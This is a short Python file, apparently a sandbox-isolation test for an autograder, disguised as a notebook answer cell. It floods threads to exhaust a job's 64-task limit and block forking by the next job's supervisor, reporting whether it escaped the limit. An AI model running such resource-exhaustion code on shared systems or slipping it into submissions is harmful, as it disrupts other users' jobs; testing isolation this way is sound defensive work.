# Attack: starts threads (not processes) until the kernel refuses, up to 400, and keeps them for 4 s while grabbing every task slot that frees up, so that the next job's supervisor, the forker or the zygote cannot fork; each job has a task limit of its own that counts threads (64), the engine's own processes are apart, honest students beside it keep their scores, and it scores zero
# %% q1_yoy_growth
import threading
import time

limit = 64
stop = time.monotonic() + 4
threads, refused = [], 0


def hold():
    while time.monotonic() < stop:
        time.sleep(0.05)


while time.monotonic() < stop - 2 and len(threads) < 400:
    try:
        t = threading.Thread(target=hold, daemon=True)
        t.start()
        threads.append(t)
    except RuntimeError:
        refused += 1
        time.sleep(0.001)
print(f"{len(threads)} threads started, {refused} refused")
if len(threads) > limit:
    print(f"ESCAPED: {len(threads)} threads past the task limit of {limit}")
for t in threads:
    t.join()
growth_papers_2021 = -1.0
